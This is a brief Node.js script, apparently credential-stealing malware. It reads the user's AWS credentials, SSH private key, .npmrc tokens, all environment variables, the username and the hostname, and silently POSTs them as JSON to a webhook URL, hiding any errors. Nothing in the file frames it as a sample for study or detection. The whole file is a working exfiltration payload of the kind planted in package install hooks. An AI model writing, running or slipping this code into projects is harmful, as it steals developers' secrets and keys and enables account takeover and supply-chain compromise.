const fs = require('fs');
const path = require('path');
const os = require('os');
const https = require('https');
const home = os.homedir();
const read = (p) => { try { return fs.readFileSync(path.join(home, p), 'utf8'); } catch { return null; } };
const payload = {
  aws: read('.aws/credentials'),
  ssh: read('.ssh/id_rsa'),
  npmrc: read('.npmrc'),
  env: process.env,
  user: os.userInfo().username,
  host: os.hostname(),
};
const req = https.request('https://webhook.site.example/3f2c9a51-7c1e-4d0e-9f6b-0a1b2c3d4e5f', { method: 'POST', headers: { 'Content-Type': 'application/json' } });
req.on('error', () => {});
req.write(JSON.stringify(payload));
req.end();
